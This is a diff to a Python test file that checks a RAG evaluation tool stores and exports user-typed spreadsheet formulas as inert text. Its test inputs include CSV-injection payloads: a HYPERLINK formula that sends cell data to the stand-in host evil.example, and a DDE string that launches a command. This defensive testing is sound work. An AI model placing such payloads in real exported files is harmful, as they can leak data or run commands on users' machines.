@@ -7,7 +7,6 @@ from pathlib import Path
 import pytest
 
 from rageval.config.evaluation import DataConfig
-from rageval.corpus.checks import QUESTION_COLUMNS
 from rageval.corpus.files import load_corpus, read_rows
 from rageval.monitoring.review import accept
 from rageval.monitoring.store.conversations import add_conversations, add_votes
@@ -15,6 +14,7 @@ from rageval.monitoring.store.database import Database, connect
 from rageval.text.formulas import csv_text
 from tests.monitoring.made import conversation, id_of, vote
 
+COLUMNS = ("question", "course", "document")
 FORMULAS = ['=HYPERLINK("http://evil.example?"&A1,"Open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", " =1", "＝1+1"]
 HARMLESS = ["'--upgrade' does what?", "''=1", "It's 1 = 1", "a|b", ""]
 
@@ -45,7 +45,8 @@ def computed(found: list[str]) -> list[str]:
 def test_a_formula_that_a_user_asked_is_accepted_as_the_text_that_it_is(
     database: Database, corpus: Path, question: str
 ) -> None:
-    data = DataConfig(documents=str(corpus / "documents.json"), ground_truth=str(corpus / "questions.csv"))
+    documents, questions = str(corpus / "documents.json"), str(corpus / "questions.csv")
+    data = DataConfig(documents=documents, ground_truth=questions, filter_by="course")
     add_conversations(
         database, [conversation(1, question=question, course="a"), conversation(2, question="=2+2", course="b")]
     )
@@ -66,10 +67,10 @@ def test_what_is_written_is_read_as_it_was_and_nothing_else_loses_its_apostrophe
         for other in ("c", "-c")
     ]
     file, plain = tmp_path / "truth.csv", tmp_path / "plain.csv"
-    file.write_text(csv_text(QUESTION_COLUMNS, rows), encoding="utf-8")
-    plain.write_text(csv_text(QUESTION_COLUMNS, [{"question": "'=1", "course": "c", "document": "d"}]))
+    file.write_text(csv_text(COLUMNS, rows), encoding="utf-8")
+    plain.write_text(csv_text(COLUMNS, [{"question": "'=1", "course": "c", "document": "d"}]))
 
     assert computed(cells(file)) == []
-    assert [row.values for row in read_rows(str(file), QUESTION_COLUMNS).rows] == rows
+    assert [row.values for row in read_rows(str(file), COLUMNS).rows] == rows
     assert cells(plain)[3] == "'=1", "a file of others that looks like ours is read as it is"
-    assert [row.values["question"] for row in read_rows(str(plain), QUESTION_COLUMNS).rows] == ["'=1"]
+    assert [row.values["question"] for row in read_rows(str(plain), COLUMNS).rows] == ["'=1"]
